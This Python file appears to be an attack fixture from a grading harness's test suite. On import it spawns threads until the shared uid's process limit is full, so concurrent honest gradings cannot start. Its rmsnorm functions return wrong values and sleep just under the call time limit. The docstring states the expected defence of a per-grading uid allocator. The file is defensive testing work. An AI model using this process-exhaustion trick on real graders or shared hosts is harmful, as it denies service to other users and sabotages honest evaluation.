"""Attack (class 7, concurrent gradings share a uid): hold every process the uid may have.

At import, start threads that sleep forever until RLIMIT_NPROC refuses more (threads count as
processes for the per-uid limit), then answer every call slowly but inside the time limit, so
the worker is never killed and keeps the uid full for minutes. Every ``normlab grade`` on the
host uses worker slot 0 and so the same unprivileged uid: a concurrent honest grading cannot
start its worker ("the worker did not start", exit 3, no score issued).

Expected: each concurrent grading gets a slot (a uid) of its own, from a host-wide lock-based
allocator; the honest grading gets full marks.
"""

import threading
import time

import numpy as np

_held = []


def _hold():
    while True:
        time.sleep(3600)


while True:
    try:
        thread = threading.Thread(target=_hold, daemon=True)
        thread.start()
        _held.append(thread)
    except RuntimeError:  # "can't start new thread": the uid is full
        break


def rmsnorm(x, gamma, eps=1e-6):
    time.sleep(8)  # under the 10 s call limit: the worker is never killed
    return np.asarray(x) * 2.0 + 1.0


def rmsnorm_backward(dout, x, gamma, eps=1e-6):
    time.sleep(8)
    return dout * 2.0, gamma * 2.0
